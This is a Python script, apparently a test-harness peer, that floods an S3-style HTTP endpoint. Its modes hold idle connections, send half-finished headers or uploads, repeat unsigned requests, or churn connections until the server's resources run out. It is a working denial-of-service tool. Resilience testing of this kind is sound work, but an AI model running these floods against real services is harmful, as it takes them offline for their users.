"""A peer that floods an S3 endpoint, from any host: `flood.py SOURCE HOST PORT KIND COUNT [FILE]`.

KIND: "silent" opens connections and says nothing; "heads" begins requests and does not end them; "bodies"
begins the upload that FILE has the head of, on each connection; "unsigned" asks on each connection, again and
again, without a signature; "requests" does so with the request that FILE holds; "connects" opens and closes
connections again and again.
It prints "flooding" once all connections are in use, and goes on until its standard input ends.
"""

from __future__ import annotations

import contextlib
import resource
import select
import socket
import sys
import threading
from pathlib import Path

_AT_ONCE = 8


def heads(kind: str, file: str) -> bytes:
    return {
        "silent": b"",
        "connects": b"",
        "heads": b"GET /images HTTP/1.1\r\nHost: a\r\nX-Half",
        "bodies": Path(file).read_bytes() + b"x" * 1000 if file else b"",
        "requests": Path(file).read_bytes() if file else b"",
        "unsigned": b"GET /images HTTP/1.1\r\nHost: a\r\n\r\n",
    }[kind]


class Flood:
    def __init__(self, source: str, target: tuple[str, int], kind: str, data: bytes) -> None:
        self.source, self.target, self.kind, self.data = source, target, kind, data
        self.held: list[socket.socket] = []

    def one(self) -> None:
        with contextlib.suppress(OSError):
            sock = socket.create_connection(self.target, 5, source_address=(self.source, 0))
            sock.sendall(self.data)
            if self.kind == "connects":
                sock.close()
            else:
                self.held.append(sock)

    def fill(self, count: int) -> None:
        for _ in range(count):
            self.one()

    def ask_again(self, sock: socket.socket) -> None:
        try:
            if not sock.recv(65536):
                self.held.remove(sock)
            sock.sendall(self.data)
        except OSError:
            self.held = [one for one in self.held if one is not sock]

    def go_on(self) -> None:
        while True:
            if self.kind in ("unsigned", "requests"):
                for sock in select.select(self.held, [], [], 1)[0]:
                    self.ask_again(sock)
            else:
                self.one()


def main() -> None:
    source, host, port, kind, count = sys.argv[1:6]
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    flood = Flood(source, (host, int(port)), kind, heads(kind, sys.argv[6] if len(sys.argv) > 6 else ""))
    fillers = [threading.Thread(target=flood.fill, args=(int(count) // _AT_ONCE,)) for _ in range(_AT_ONCE)]
    for one in fillers:
        one.start()
    for one in fillers:
        one.join()
    print("flooding", flush=True)
    threading.Thread(target=flood.go_on, daemon=True).start()
    sys.stdin.read()


main()
